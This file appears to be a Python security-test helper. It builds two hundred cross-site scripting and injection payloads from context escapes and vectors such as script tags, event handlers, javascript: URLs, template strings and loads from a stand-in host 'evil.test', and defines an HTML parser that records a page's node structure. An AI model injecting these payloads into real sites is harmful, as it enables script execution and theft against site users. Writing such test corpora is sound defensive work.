"""Two hundred texts that would do something if any page took them for more than text."""

from html.parser import HTMLParser

HIT = "window.ww_hit=1"
FOREIGN = "https://evil.test"
_WAYS_OUT = ("", '">', "'>", "</textarea>", "</title>", "</script>", "-->", "]]>")
_VECTORS = (
    f"<script>{HIT}</script>",
    f"<img src=x onerror={HIT}>",
    f"<svg onload={HIT}>",
    f"<svg><script>{HIT}</script></svg>",
    '<iframe srcdoc="<script>parent.ww_hit=1</script>"></iframe>',
    "<iframe src=javascript:parent.ww_hit=1></iframe>",
    f"<a href=javascript:{HIT} autofocus onfocus={HIT}>x</a>",
    f"<input autofocus onfocus={HIT}>",
    f"<details open ontoggle={HIT}>x</details>",
    f"<body onload={HIT}>",
    f"<video><source onerror={HIT}></video>",
    f"<audio src=x onerror={HIT}>",
    f'<math><mi xlink:href="javascript:{HIT}">x</mi></math>',
    f"<form action=javascript:{HIT}><button>x</button></form>",
    f"<object data=javascript:{HIT}></object>",
    f"<embed src={FOREIGN}/x.swf>",
    f"<link rel=stylesheet href={FOREIGN}/x.css>",
    f'<meta http-equiv=refresh content="0;url={FOREIGN}/">',
    f"<style>@import '{FOREIGN}/x.css';</style>",
    f"<base href={FOREIGN}/>",
    f"![x]({FOREIGN}/x.png)",
    f"[x](javascript:{HIT})",
    f"$\\href{{javascript:{HIT}}}{{x}}$ :red[x] :material/lock:",
    f"`x`*{{{{ 7 * 7 }}}}*{{% raw %}} ${{{HIT}}}",
    f"&lt;img src=x onerror={HIT}&gt; &#60;script&#62;",
)  # fmt: skip
PAYLOADS = tuple(f"{out}{vector}" for out in _WAYS_OUT for vector in _VECTORS)


class Structure(HTMLParser):
    """What a page is built of: every node with the names of its attributes, in order."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.nodes: list[tuple[str, ...]] = []
        self.text = ""
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.nodes.append((tag, *(name for name, _ in attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data
